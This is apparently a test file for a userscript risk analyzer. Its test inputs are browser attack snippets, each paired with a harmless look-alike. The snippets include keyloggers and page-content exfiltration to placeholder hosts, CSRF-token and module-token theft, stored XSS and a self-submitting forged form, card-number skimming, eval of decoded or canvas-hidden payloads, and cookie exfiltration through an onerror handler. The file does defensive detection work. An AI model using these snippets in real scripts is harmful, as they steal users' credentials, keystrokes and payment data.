import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";

/** A class of published attacks, with harmless scripts that look alike. */
interface PayloadClass {
	readonly name: string;
	readonly level: "red" | "amber";
	readonly attacks: readonly string[];
	readonly twins: readonly string[];
}

const onShop = (body: string) => userscript(["match https://shop.example/*", "grant none"], body);
const LONG = "Q29uc3RydWN0".repeat(60);

const CLASSES: readonly PayloadClass[] = [
	{
		name: "data for a server that is to be filled in",
		level: "red",
		attacks: [
			`document.addEventListener("keydown", (e) => fetch("http://<YOUR_IP>/k?" + e.key));`,
			`const to = "<your-server>"; const r = new XMLHttpRequest(); r.open("POST", to); r.send(document.body.innerHTML);`,
			`fetch("/my-server-url/dom", { method: "POST", body: document.documentElement.outerHTML });`,
		],
		twins: [
			onShop(`fetch("/my-address/edit?name=" + document.querySelector("h1").textContent);`),
			`document.title = "<your-server>";`,
		],
	},
	{
		name: "a request to a server that is to be filled in",
		level: "amber",
		attacks: [`fetch("http://<attacker>/ping");`],
		twins: [`fetch("/ping");`],
	},
	{
		name: "a token out of a variable of the page",
		level: "red",
		attacks: [
			`fetch("https://c.test/?" + board.security.token.__token);`,
			`const all = []; chunks.push([["x"], {}, (load) => { for (const k in load.c) all.push(load.c[k]); }]);
			fetch("https://c.test/", { method: "POST", body: all.find((m) => m.exports.getToken).exports.getToken() });`,
		],
		twins: [
			`fetch("https://c.test/?" + board.page.number);`,
			userscript(
				["match https://shop.example/*", "grant GM_getValue"],
				`fetch("https://api.test/?" + lib.auth.token).then((r) => r.json()).then((t) => { document.title = t.n; });`,
			),
		],
	},
	{
		name: "markup with a program, written into a named site with the token of the page",
		level: "red",
		attacks: [
			`const r = new XMLHttpRequest(); r.open("POST", "https://board.test/profile/edit");
			r.send("token=" + board.security.token + "&about=" + encodeURIComponent("<script src=https://c.test/w.js></" + "script>"));`,
			`fetch("/settings").then((r) => r.text()).then((t) => fetch("/settings", { method: "POST", body: "k=" + t.split("k=")[1] + "&about=%3Cimg+src%3Dx+onerror%3D%22%28function%28%29%7B" }));`,
		],
		twins: [],
	},
	{
		name: "a form in written markup that sends itself",
		level: "red",
		attacks: [
			`fetch("/apps/new").then((r) => r.text()).then((t) => document.write('<form id="f" action="/apps" method="post"><input name="k" value="' + t.split("k=")[1] + '"></form><script>document.getElementById("f").submit()</' + "script>"));`,
		],
		twins: [`document.body.innerHTML = '<form action="/search"><input name="q"></form>';`],
	},
	{
		name: "typed secrets sent to the site itself",
		level: "red",
		attacks: [
			onShop(`let log = ""; addEventListener("keydown", (e) => { log += e.key; });
			setInterval(() => navigator.sendBeacon("/assets/stats", log), 5000);`),
			onShop(`document.querySelector("form").addEventListener("submit", () => fetch(location.origin + "/img/c", {
				method: "POST", body: document.querySelector("#card-number").value }));`),
		],
		twins: [
			onShop(`addEventListener("keydown", (e) => { if (e.key === "n") fetch("/next").then((r) => r.text()); });`),
			onShop(`document.querySelector("form").addEventListener("input", () => fetch("/suggest?q=" +
				document.querySelector("#q").value).then((r) => r.json()).then((t) => { document.title = t.length; }));`),
		],
	},
	{
		name: "a program that is decoded and run",
		level: "red",
		attacks: [
			`const t = "${LONG}"; let s = ""; for (let i = 0; i < t.length; i++) s += page.map[t.charCodeAt(i) ^ page.key]; eval(s);`,
			`const c = document.querySelector("canvas").getContext("2d").getImageData(0, 0, 9, 9).data; let s = "";
			for (let i = 3; i < c.length; i += 4) s += String.fromCharCode(c[i]); new Function(s)();`,
		],
		twins: [
			`const picture = "iVBOR${LONG}"; document.title = picture.length;`,
			`let s = ""; for (const n of [104, 105]) s += String.fromCharCode(n); document.title = s;`,
		],
	},
	{
		name: "the answer of one server passed on to another",
		level: "amber",
		attacks: [
			`fetch("https://mail.test/inbox").then((r) => r.text()).then((t) => fetch("https://c.test/?" + encodeURIComponent(t)));`,
		],
		twins: [`fetch("https://api.test/a").then((r) => r.text()).then((t) => fetch("https://www.api.test/b?" + t));`],
	},
];

describe.each(CLASSES)("$name", ({ level, attacks, twins }) => {
	test.each(attacks)("is found in %s", (code) => {
		expect(analyzeScript({ code }).risk_level).toBe(level);
	});

	test.each(twins)("is not found in %s", (code) => {
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});

describe("names of one of several objects", () => {
	test("are followed by helpers that make elements", () => {
		const code = onShop(`const make = (tag, attributes) => {
			const made = document.createElement(tag);
			for (const name in attributes) made.setAttribute(name, attributes[name]);
			for (const name of Object.keys(attributes ?? {})) made.setAttribute(name, attributes[name]);
			return made;
		};
		const parts = [make("div"), make("a", { href: "javascript:void(0)" }), make("a", { href: "https://lib.test/" + document.title })];
		document.querySelectorAll("p").forEach((p) => p.append(...parts));`);
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});

	test("still assign code to handlers", () => {
		const code = onShop(`const make = (tag, attributes) => {
			const made = document.createElement(tag);
			for (const name in attributes) made.setAttribute(name, attributes[name]);
			document.body.append(made);
		};
		make("div"); make("img", { src: "x", onerror: "fetch('https://c.test/' + document.cookie)" });`);
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});
});

test("the source of an element that fetches none is a property", () => {
	const code = onShop(
		`const kept = document.createElement("li"); kept.src = "https://c.test/?" + localStorage.getItem("place"); document.body.append(kept);`,
	);
	expect(analyzeScript({ code }).risk_level).toBe("green");
	expect(analyzeScript({ code: code.replace('"li"', '"img"') }).risk_level).toBe("red");
	expect(analyzeScript({ code: code.replace('"li"', '"x-player"') }).risk_level).toBe("red");
});

test("a key of a sign-in service in a request to a host of the same domain is not sent away", () => {
	const code = `const key = JSON.parse(localStorage.getItem("oidc.user:https://auth.shop.example/x")).access_token;
		fetch("https://api.SHOP.example/me", { headers: { authorization: key } }).then((r) => r.json()).then((t) => { document.title = t.n; });`;
	expect(analyzeScript({ code: code.replace("SHOP", "shop") }).risk_level).toBe("green");
	expect(analyzeScript({ code: code.replace("SHOP", "stranger") }).risk_level).toBe("red");
});
